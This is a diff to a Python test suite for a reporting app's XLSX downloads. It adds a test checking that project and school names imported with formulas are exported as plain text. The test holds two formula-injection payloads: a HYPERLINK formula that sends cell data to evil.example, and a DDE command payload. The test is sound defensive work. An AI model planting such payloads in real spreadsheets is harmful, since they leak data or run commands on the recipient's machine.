@@ -8,6 +8,7 @@ from lxml import etree
 
 from core.project500 import steps
 from tests.factories import edit, login, make_user
+from tests.unit.test_workbooks import cells, formulas_in
 
 YEAR = 2026
 
@@ -91,6 +92,20 @@ def test_the_xlsx_download_holds_the_figures(testapp, project):
     rows = {r[2]: r for r in book["Показатели"].iter_rows(min_row=4, values_only=True)}
     assert rows["seminar_attended"][3:6] == (2, 4, 0.5)
     assert [r[1] for r in book["По муниципалитетам"].iter_rows(min_row=2, values_only=True)] == ["m1", "m2"]
+
+
+def test_names_imported_as_formulas_come_out_as_text_in_both_downloads(testapp, project, host):
+    hyperlink, dde = '=HYPERLINK("http://evil.example/?"&A1,"Открыть")', "=cmd|' /C calc'!A0"
+    with edit(project) as site:
+        site["66"]["m1"].title = hyperlink
+        site["66"]["m1"]["s1"].title = dde
+        steps.import_risk_profiles(host, site["66"], [(2, "66-1-1", "staff_shortage", "high")], YEAR, "region66")
+    login(testapp, "region66")
+    indicators = testapp.get(f"/66/@@indicators-500.xlsx?year={YEAR}").body
+    profile = testapp.get(f"/66/m1/s1/500plus-{YEAR}/@@risk-profile.xlsx").body
+    assert formulas_in(indicators) == [] and formulas_in(profile) == []
+    assert cells(indicators)[hyperlink].data_type == "s" and cells(profile)[dde].data_type == "s"
+    assert cells(indicators)[0.5].data_type == "n" and cells(profile)[YEAR].data_type == "n"
 
 
 def test_the_chart_downloads_as_svg(testapp, project):
